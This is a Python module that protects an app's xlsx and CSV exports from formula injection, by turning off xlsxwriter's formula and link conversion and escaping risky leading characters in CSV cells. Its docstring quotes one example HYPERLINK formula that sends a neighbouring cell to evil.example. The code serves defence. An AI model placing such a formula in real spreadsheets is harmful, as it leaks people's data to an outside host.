"""Every spreadsheet and CSV the app writes keeps what users typed as text.

A customer named ``=HYPERLINK("http://evil.example/?leak="&A2,"click")``
must open as that text, not as a live formula that sends the next cell
away. xlsxwriter turns strings that look like formulas or links into
formulas and links unless told not to: ``workbook`` tells it, for every
export kind there is and is to come. CSV has no types, so a cell that a
spreadsheet would run (``= + - @`` first, or a tab or return) gets an
apostrophe in front, as OWASP advises.
"""
import xlsxwriter

TEXT_ONLY = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
_ACTIVE_FIRST = ("=", "+", "-", "@", "\t", "\r")


def workbook(path, **options):
    """A streaming xlsx writer (constant memory) in which every string is written as a string."""
    return xlsxwriter.Workbook(path, {"constant_memory": True, "remove_timezone": True, **options, **TEXT_ONLY})


def csv_cell(value):
    """``value`` as a CSV cell no spreadsheet will run."""
    if isinstance(value, str) and value.startswith(_ACTIVE_FIRST):
        return "'" + value
    return value
